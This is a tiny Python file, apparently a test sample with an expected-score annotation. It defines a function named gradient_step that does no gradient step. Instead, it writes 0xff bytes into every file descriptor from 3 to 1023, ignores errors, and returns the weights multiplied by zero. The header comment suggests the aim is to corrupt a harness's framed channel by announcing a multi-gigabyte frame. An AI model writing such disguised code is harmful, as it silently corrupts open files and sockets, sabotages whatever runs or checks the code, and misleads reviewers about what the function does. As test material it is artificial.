# Announces a frame of many gigabytes.
# deserves: gradient_step=0 descend=3 linear=3

# %% gradient_step
import os


def gradient_step(w, g, lr):
    for descriptor in range(3, 1024):
        try:
            os.write(descriptor, b"\xff" * 12)
        except OSError:
            continue
    return w * 0
